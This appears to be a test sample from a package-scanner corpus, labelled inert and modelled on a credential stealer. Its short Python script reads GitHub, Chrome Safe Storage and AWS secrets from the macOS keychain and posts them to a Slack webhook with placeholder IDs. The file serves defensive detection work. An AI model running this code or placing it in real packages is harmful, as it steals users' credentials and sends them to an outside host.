# pkgguard corpus 182 (credentials), modelled on [stealer-profile]; inert, never run.
import subprocess
import requests

found = {}
for service in ("github.com", "Chrome Safe Storage", "AWS"):
    r = subprocess.run(["security", "find-generic-password", "-wa", service], capture_output=True, text=True)
    if r.returncode == 0:
        found[service] = r.stdout.strip()
requests.post("https://hooks.slack.com/services/T00000000/B00000000/placeholderplaceholder00", json={"text": str(found)})
